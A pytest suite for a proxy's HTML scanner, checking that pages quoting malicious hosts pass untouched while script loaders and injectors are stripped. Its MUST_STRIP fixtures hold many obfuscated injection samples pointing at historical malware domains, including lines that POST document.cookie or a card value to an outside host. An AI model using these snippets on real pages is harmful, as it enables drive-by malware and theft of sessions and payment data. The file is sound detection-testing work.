"""Pages that *mention* a blocked origin pass untouched; pages that load or inject one do not.

Issue 17: security teams read threat reports, IOC lists and feeds every day. A
blocked host held as data (JSON-LD, app state, a code viewer's payload, a link
checker's list, prose) is reported as a ``mention`` (``removed: false``) and the
page goes out byte for byte. Inline JavaScript is removed only on evidence that
it loads or injects the origin: a write of markup, a created element, an
``import()``, a redirect, an eval-like sink. The attacker who hides the injector
as "data" for an eval-like sink is still stripped.

The blocklist is the shipped ``blocklists/builtin.txt`` (hosts and IPs, with
subdomains), the signatures the shipped ``blocklists/signatures.toml``.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from pathlib import Path

import ada_url
import pytest

from proxy_addons.core.htmlscan import Finding, Scanner, ScriptKind, script_kind
from proxy_addons.core.jsscan import SinkKind, analyse, tokenize
from proxy_addons.core.signatures import parse_signatures

ROOT = Path(__file__).resolve().parents[2]
BUILTIN = (ROOT / "blocklists" / "builtin.txt").read_text()
SIGNATURES = parse_signatures((ROOT / "blocklists" / "signatures.toml").read_text())
HOSTS = frozenset(
    line.strip() for line in BUILTIN.splitlines() if line.strip() and not line.startswith("#")
)
PAGE = "https://news.example/2009/05/gumblar.html"


@dataclass(frozen=True)
class Match:
    list: str
    rule: str
    mode: str = "enforce"


def is_blocked(url: str) -> Match | None:
    try:
        host = ada_url.URL(url).hostname
    except ValueError:
        return None
    for h in HOSTS:
        if host == h or host.endswith("." + h):
            return Match("builtin", h)
    return None


def scanner(**kw: object) -> Scanner:
    return Scanner(is_blocked, SIGNATURES, **kw)  # type: ignore[arg-type]


def html(body: str) -> bytes:
    return f"<!doctype html><html><head><title>t</title></head><body>{body}</body></html>".encode()


def strip(body: bytes, *, fast_path: bool = True) -> tuple[bytes, list[Finding]]:
    return scanner(fast_path=fast_path).strip(body, PAGE, "text/html; charset=utf-8", comment=False)


# ---- the quoted-IOC shapes from the issue: untouched, reported as mentions

JSON_LD = html(
    '<article><h1>Asprox is back</h1><p id="body"></p></article>'
    '<script type="application/ld+json">'
    + json.dumps(
        {
            "@context": "https://schema.org",
            "@type": "NewsArticle",
            "headline": "Mass SQL injection appends a script to ASP pages",
            "articleBody": "Infected pages end with <script src=http://www.nihaorr1.com/1.js>"
            "</script>; the script at http://www.nihaorr1.com/1.js loads exploits.",
        }
    ).replace("</", "<\\/")
    + "</script>"
)

NEXT_DATA_JSON = json.dumps(
    {
        "props": {
            "pageProps": {
                "post": {
                    "title": "Gumblar and Download.Ject, revisited",
                    "body": "Gumblar pulled its payload from gumblar.cn (later martuz.cn); "
                    "Download.Ject loaded http://217.107.218.147/dot.php from every page.",
                }
            }
        },
        "page": "/posts/[slug]",
        "buildId": "b1",
    }
)
NEXT_DATA = html(
    '<div id="__next"><h1 id="title">loading</h1><div id="article"></div></div>'
    f'<script id="__NEXT_DATA__" type="application/json">{NEXT_DATA_JSON}</script>'
    "<script>"
    "const data = JSON.parse(document.getElementById('__NEXT_DATA__').textContent);"
    "const post = data.props.pageProps.post;"
    "document.getElementById('title').textContent = post.title;"
    "document.getElementById('article').textContent = post.body;"
    "</script>"
)

CODE_VIEWER = html(
    '<div id="viewer"></div><script type="application/json" data-target="react-app.embeddedData">'
    + json.dumps(
        {"payload": {"blob": {"rawLines": BUILTIN.splitlines(), "path": "blocklists/builtin.txt"}}}
    ).replace("</", "<\\/")
    + "</script>"
)

LINK_CHECKER = html(
    '<p><a href="http://gumblar.cn/">a sample</a></p>'
    "<script>\n"
    "// Flag links to hosts from the advisory.\n"
    'const KNOWN_BAD = ["gumblar.cn", "martuz.cn", "lizamoon.com"];\n'
    "for (const a of document.querySelectorAll('a[href]')) {\n"
    "  const host = a.hostname.toLowerCase();\n"
    "  if (KNOWN_BAD.some((h) => host === h || host.endsWith('.' + h))) {\n"
    "    a.classList.add('ioc');\n"
    "    a.title = 'known-bad host: do not visit';\n"
    "    a.removeAttribute('href');\n"
    "  }\n"
    "}\n"
    "</script>"
)

PROSE = html(
    "<h1>Gumblar</h1><p>The script loaded from gumblar.cn, later martuz.cn; LizaMoon used "
    "lizamoon.com/ur.php and Download.Ject http://217.107.218.147/dot.php. Asprox: "
    "&lt;script src=http://www.nihaorr1.com/1.js&gt;&lt;/script&gt;</p>"
    '<pre><code>&lt;script src="http://gumblar.cn/rss/?id=3"&gt;&lt;/script&gt;</code></pre>'
)

QUOTED_IOCS = {
    "json-ld": (JSON_LD, "www.nihaorr1.com"),
    "next-data": (NEXT_DATA, "gumblar.cn"),
    "code-viewer": (CODE_VIEWER, None),
    "link-checker": (LINK_CHECKER, "gumblar.cn"),
}


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(QUOTED_IOCS))
def test_quoted_iocs_pass_untouched_and_are_reported(name: str, fast_path: bool) -> None:
    body, _ = QUOTED_IOCS[name]
    out, findings = strip(body, fast_path=fast_path)
    assert out is body
    assert findings, "the mention is reported for the SOC"
    for f in findings:
        assert (f.element, f.reason, f.removed) == ("script", "mention", False), f
        assert f.as_dict()["removed"] is False


@pytest.mark.parametrize("fast_path", [True, False])
def test_prose_is_not_scanned(fast_path: bool) -> None:
    out, findings = strip(PROSE, fast_path=fast_path)
    assert out is PROSE and findings == []


def test_next_data_mention_names_the_host_and_list() -> None:
    (f,) = scanner().scan(NEXT_DATA, PAGE, "text/html")
    assert f.list in ("builtin", "signatures") and f.reason == "mention"
    assert NEXT_DATA[f.start : f.end].startswith(b'<script id="__NEXT_DATA__"')


# ---- what runs: the HTML standard's type rules (and Chromium, measured)


@pytest.mark.parametrize(
    ("attrs", "kind"),
    [
        ({}, ScriptKind.CLASSIC),
        ({"type": ""}, ScriptKind.CLASSIC),
        ({"type": " text/javascript "}, ScriptKind.CLASSIC),
        ({"type": "TEXT/JAVASCRIPT"}, ScriptKind.CLASSIC),
        ({"type": "application/x-javascript"}, ScriptKind.CLASSIC),
        ({"type": "text/jscript"}, ScriptKind.CLASSIC),
        ({"type": "text/livescript"}, ScriptKind.CLASSIC),
        ({"type": "text/javascript1.5"}, ScriptKind.CLASSIC),
        ({"type": "text/javascript\x0b"}, ScriptKind.CLASSIC),  # Chromium strips \v too
        ({"type": "text/javascript; charset=utf-8"}, ScriptKind.CLASSIC),  # (erring: runs)
        ({"type": "module"}, ScriptKind.MODULE),
        ({"type": "Module"}, ScriptKind.MODULE),
        ({"type": "importmap"}, ScriptKind.IMPORTMAP),
        ({"type": "speculationrules"}, ScriptKind.SPECULATION_RULES),
        ({"type": "webbundle"}, ScriptKind.WEBBUNDLE),
        ({"type": "application/json"}, ScriptKind.DATA),
        ({"type": "application/ld+json"}, ScriptKind.DATA),
        ({"type": "text/template"}, ScriptKind.DATA),
        ({"type": "text/x-handlebars-template"}, ScriptKind.DATA),
        ({"type": "text/plain"}, ScriptKind.DATA),
        ({"type": "text/babel"}, ScriptKind.DATA),
        ({"type": "javascript"}, ScriptKind.DATA),
        ({"language": "JavaScript"}, ScriptKind.CLASSIC),
        ({"language": "javascript1.2"}, ScriptKind.CLASSIC),
        ({"language": ""}, ScriptKind.CLASSIC),
        ({"language": "vbscript"}, ScriptKind.DATA),
        ({"type": "", "language": "vbscript"}, ScriptKind.CLASSIC),  # an empty type wins
        ({"type": "text/plain", "language": "javascript"}, ScriptKind.DATA),
    ],
)
def test_script_kind(attrs: dict[str, str], kind: ScriptKind) -> None:
    assert script_kind(attrs) is kind


WRITER = "<script>document.write('<scr' + 'ipt src=http://gumblar.cn/rss/></scr' + 'ipt>')</script>"


@pytest.mark.parametrize(
    "type_",
    ["application/json", "application/ld+json", "text/template", "text/x-handlebars", "x-unknown"],
)
def test_data_blocks_are_never_removed_for_their_text(type_: str) -> None:
    body = html(WRITER.replace("<script>", f'<script type="{type_}">', 1))
    out, (f,) = strip(body)
    assert out is body and f.reason == "mention" and not f.removed


@pytest.mark.parametrize("type_", ["", "text/javascript", "module", "application/ecmascript"])
def test_the_same_writer_in_code_is_removed(type_: str) -> None:
    body = html(WRITER.replace("<script>", f'<script type="{type_}">', 1))
    out, (f,) = strip(body)
    assert f.removed and f.evidence == "write"
    assert b"gumblar" not in out


@pytest.mark.parametrize("type_", ["text/plain", "application/json", "", "module", "importmap"])
def test_a_blocked_src_is_removed_whatever_the_type(type_: str) -> None:
    # Not fetched for a data type, but a script on the page can change the type and
    # insert the element again; no page needs such an element.
    body = html(f'<script type="{type_}" src="http://gumblar.cn/rss/"></script>')
    out, (f,) = strip(body)
    assert f.reason == "blocked-url" and f.removed and b"gumblar" not in out


def test_the_text_of_a_script_with_a_src_is_data() -> None:
    body = html(
        "<script src=/app.js>document.write('<script src=//gumblar.cn/x.js></scr'+'ipt>')</script>"
    )
    out, (f,) = strip(body)
    assert out is body and f.reason == "mention"


# ---- import maps and speculation rules load their URLs


@pytest.mark.parametrize(
    "body",
    [
        '<script type="importmap">{"imports": {"app": "http://gumblar.cn/app.js"}}</script>',
        '<script type="importmap">{"scopes": {"/": {"x": "//martuz.cn/x.js"}}}</script>',
        '<script type="speculationrules">{"prefetch": [{"source": "list", '
        '"urls": ["https://lizamoon.com/ur.php"]}]}</script>',
        '<script type="speculationrules">{"prerender": [{"where": {"href_matches": '
        '"http://gumblar.cn/*"}}]}</script>',
        '<script type="importmap">{"imports": {"app": "http://gumblar.cn/app.js",}}</script>',
    ],
)
def test_import_maps_and_speculation_rules_are_loads(body: str) -> None:
    page = html(body)
    out, (f,) = strip(page)
    assert f.removed and f.reason in ("blocked-url", "inline-reference", "signature")
    assert b"gumblar" not in out and b"martuz" not in out and b"lizamoon" not in out


@pytest.mark.parametrize("fast_path", [True, False])
def test_relative_urls_in_an_import_map_resolve_against_the_base(fast_path: bool) -> None:
    body = html(
        '<base href="http://gumblar.cn/"><script type="importmap">{"imports": {"a": "/a.js"}}</script>'
    )
    _, findings = strip(body, fast_path=fast_path)
    assert [(f.element, f.reason, f.removed) for f in findings] == [("script", "blocked-url", True)]


def test_an_import_map_that_maps_a_blocked_url_away_only_mentions_it() -> None:
    body = html(
        '<script type="importmap">{"imports": {"http://gumblar.cn/x.js": "/local/x.js"}}</script>'
    )
    out, (f,) = strip(body)
    assert out is body and f.reason == "mention"


# ---- inline JavaScript: removed on evidence of a load or an injection

B64 = base64.b64encode(b"document.write('<script src=http://gumblar.cn/x.js></script>')").decode()
MUST_STRIP = {
    "download-ject": (ROOT / "tests" / "data" / "html" / "downloadject.html").read_text("cp1252"),
    "concatenated": "<script>document.write('<scr'+'ipt src=http://'+'gumblar.cn/x.js></scr'+'ipt>')</script>",
    "hex-escaped": "<script>document.write('\\x3cscript src=http://gumblar.cn/x.js>\\x3c/script>')</script>",
    "unicode-escaped": '<script>document.write("\\u003cscript src=//martuz.cn/x.js>\\u003c/script>")</script>',
    "unescape": "<script>document.write(unescape('%3Cscript%20src%3Dhttp%3A//gumblar.cn/x.js%3E%3C/script%3E'))</script>",
    "iframe-written": "<script>document.body.innerHTML += '<iframe src=\"http://gumblar.cn/\" width=1></iframe>'</script>",
    "create-script": "<script>var s=document.createElement('script');s.src='http://gumblar.cn/x.js';document.head.appendChild(s)</script>",
    "create-iframe": "<script>var f=document.createElement('iframe');f.setAttribute('src','//martuz.cn/');document.body.appendChild(f)</script>",
    "host-split": "<script>var h='gumblar.cn';var s=document.createElement('script');s.src='http://'+h+'/x.js';document.body.appendChild(s)</script>",
    "import": "<script>import('http://gumblar.cn/m.js')</script>",
    "static-import": '<script type="module">import "https://gumblar.cn/m.js";</script>',
    "location": "<script>location = 'http://gumblar.cn/'</script>",
    "location-href": "<script>window.location.href = 'http://martuz.cn/in.cgi?2'</script>",
    "location-replace": "<script>location.replace('http://lizamoon.com/ur.php')</script>",
    "window-open": "<script>window.open('http://gumblar.cn/')</script>",
    "worker": "<script>new Worker('http://gumblar.cn/w.js')</script>",
    "get-script": "<script>$.getScript('http://gumblar.cn/x.js')</script>",
    "jquery-html": "<script>$('body').append('<script src=http://gumblar.cn/x.js><\\/script>')</script>",
    "eval-atob": f"<script>eval(atob('{B64}'))</script>",
    "function": '<script>var c=\'document.write("<script src=//gumblar.cn/x.js></scr"+"ipt>")\';Function(c)()</script>',
    "set-timeout-string": "<script>setTimeout(\"location='http://gumblar.cn/'\", 10)</script>",
    "write-array": "<script>var a=['<script src=http://gumblar.cn/x.js></scr'+'ipt>'];document.write(a[0])</script>",
    "src-from-data": "<script>var cfg={u:['http://gumblar.cn/x.js']};var s=document.createElement('script');s.src=cfg.u[0];document.head.appendChild(s)</script>",
    "computed-eval": "<script>var p='location=\"http://gumblar.cn/\"';window['ev'+'al'](p)</script>",
    "computed-call": "<script>var k=['e','v','a','l'].join('');var p='x=\"gumblar.cn\"';window[k](p)</script>",
    "constructor": "<script>[].constructor.constructor('location=\"//gumblar.cn/\"')()</script>",
    "escaped-name": "<script>var p='location=\"//gumblar.cn/\"';\\u0065val(p)</script>",
    "regex-desync": "<script>var u='http://gumblar.cn/x.js';if(1)/\"/;document.body.appendChild(document.createElement('img')).src=u;//\"/</script>",
    "onerror": "<script>document.body.innerHTML='<img src=x onerror=\"this.src=\\'//gumblar.cn/\\'\">'</script>",
    "unterminated": "<script>var u='http://gumblar.cn/x.js';document.write('<script src='+u+'>",
    "svg-script": "<svg><script>location='http://gumblar.cn/'</script></svg>",
    "srcdoc": '<iframe srcdoc="<script src=http://gumblar.cn/x.js></script>"></iframe>',
    "javascript-url": "<iframe src=\"javascript:document.write('<script src=//gumblar.cn/></scr'+'ipt>')\"></iframe>",
    "split-tag": "<script>var p=['<scr','ipt src=\"','http://gumblar.cn/x.js','\"></scr','ipt>'];document.write(p.join(''))</script>",
    "from-char-code": "<script>document.write(String.fromCharCode("
    + ",".join(str(ord(c)) for c in "<script src=//gumblar.cn/x.js></script>")
    + "))</script>",
    "fetch": "<script>fetch('https://gumblar.cn/c', {method: 'POST', body: document.cookie})</script>",
    "beacon": "<script>navigator.sendBeacon('//martuz.cn/c', card.value)</script>",
    "xhr": "<script>var x=new XMLHttpRequest();x.open('POST','http://gumblar.cn/c');x.send(f)</script>",
    "websocket": "<script>new WebSocket('wss://gumblar.cn/c')</script>",
    "fetch-from-data": "<script>var cfg={u:'https://gumblar.cn/c'};fetch(cfg.u,{method:'POST'})</script>",
    "javascript-url-result": "<iframe src=\"javascript:'<script src=//gumblar.cn/x.js></scr'+'ipt>'\"></iframe>",
    "webbundle": '<script type="webbundle">{"source": "https://gumblar.cn/b.wbn", "resources": []}</script>',
    "object-data": "<script>document.getElementById('o').data = 'http://gumblar.cn/x.swf'</script>",
    "signature-only": "<script>document.write('<scr'+'ipt src=http://127.0.0.1/x.js?217.107.218.147></scr'+'ipt>')</script>",
}


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(MUST_STRIP))
def test_loaders_and_injectors_are_stripped(name: str, fast_path: bool) -> None:
    body = MUST_STRIP[name].encode("utf-8")
    if b"<html" not in body:
        body = html(MUST_STRIP[name])
    out, findings = strip(body, fast_path=fast_path)
    removed = [f for f in findings if f.removed]
    assert removed, findings
    assert all(f.reason != "mention" for f in removed)
    for f in removed:
        assert body[f.start : f.end] not in out
    if name != "download-ject":  # (which also quotes the footer in a comment and a textarea)
        for host in (b"gumblar", b"martuz", b"lizamoon", b"217.107.218.147"):
            assert host not in out


@pytest.mark.parametrize(
    "script",
    [
        'var ioc = "gumblar.cn"; fetch("/api/lookup?host=" + ioc)',
        'var ioc = "gumblar.cn"; var x = new XMLHttpRequest(); x.open("POST", "/report")',
        'var iocs = ["gumblar.cn", "martuz.cn"]; el.textContent = iocs.join(", ")',
        'rows.innerHTML = ["gumblar.cn", "martuz.cn"].map(h => "<tr><td>" + h + "</td></tr>").join("")',
        'var ioc = "http://gumblar.cn/"; location.href = "/report?u=" + encodeURIComponent(ioc)',
        'var ioc = "http://gumblar.cn/"; a.href = "#" + "blocked"',
        'setTimeout(function () { note("gumblar.cn") }, 100)',
        'var src = "http://gumblar.cn/x.js"; t.innerHTML = "<tr><td>" + src + "</td></tr>"',
        'var data = {src: "http://gumblar.cn/x.js"}; out.innerHTML = "<b>" + data.src + "</b>"',
        'var ioc = "gumblar.cn"; fetch("/log?data=" + ioc); out.innerHTML = "<b>" + ioc + "</b>"',
        'class Flag { constructor() { this.hosts = ["gumblar.cn"] } }',
    ],
)
def test_data_in_scripts_without_a_way_to_load_it_is_a_mention(script: str) -> None:
    body = html(f"<script>{script}</script>")
    out, findings = strip(body)
    assert out is body
    assert [(f.reason, f.removed) for f in findings] == [("mention", False)]


def test_monitor_list_evidence_is_reported_not_removed() -> None:
    def watch(url: str) -> Match | None:
        return Match("watch", "gumblar.cn", "monitor") if "gumblar.cn" in url else None

    body = html(MUST_STRIP["create-script"])
    out, (f,) = Scanner(watch).strip(body, PAGE, "text/html")  # type: ignore[arg-type]
    assert out is body and f.reason == "inline-reference" and not f.removed


# ---- the tokenizer


def test_tokenizer_reads_strings_templates_comments_and_regexes() -> None:
    tokens, unreadable = tokenize(
        "a = 'x\\x27y' + \"q\" /* eval( */ // write(\n"
        "b = `t${ `in${1}` }u` / 2; c = /[/]eval(/g; <!-- eval(\n--> write(\n"
    )
    assert not unreadable
    values = [t.value for t in tokens]
    assert "x'y" in values and "eval" not in values and "write" not in values
    assert analyse("var a = 1 /* unterminated").unreadable
    assert analyse("var a = `${1").unreadable


def test_sinks_hidden_from_the_tokenizer_are_found_by_shape() -> None:
    # "/" after ")" reads as division; here it starts a regex and the code is live.
    traits = analyse('if (1) /"/; eval(x); //"/')
    assert traits.first(SinkKind.CODE) is not None


def test_past_the_work_budget_a_naming_script_is_removed_as_before() -> None:
    # The tokenizer's work is bounded per scan; past it the old rule applies (remove).
    filler = "var a" + "=b+c;" * 60000  # 300 KB of code, over the per-script bound
    body = html(f"<script>{filler} var ioc = 'gumblar.cn';</script>")
    _, (f,) = strip(body)
    assert f.removed and f.evidence is not None and "not analysed" in f.evidence
    small = html("<script>var ioc = 'gumblar.cn';</script>")
    out, (g,) = strip(small)
    assert out is small and g.reason == "mention"


def test_a_data_block_after_the_document_is_no_active_content() -> None:
    body = html("") + b'<script type="application/json">{"a": 1}</script>'
    assert scanner(after_html="strip").scan(body, PAGE, "text/html") == []
    code = html("") + b"<script>go()</script>"
    (f,) = scanner(after_html="strip").scan(code, PAGE, "text/html")
    assert f.reason == "after-html" and f.removed


def test_a_mention_after_the_document_is_reported_by_the_policy() -> None:
    body = html("") + b"<script>var ioc = 'gumblar.cn';</script>"
    (f,) = scanner(after_html="strip").scan(body, PAGE, "text/html")
    assert (f.reason, f.removed) == ("after-html", True)
    (g,) = scanner(after_html="off").scan(body, PAGE, "text/html")
    assert (g.reason, g.removed) == ("mention", False)
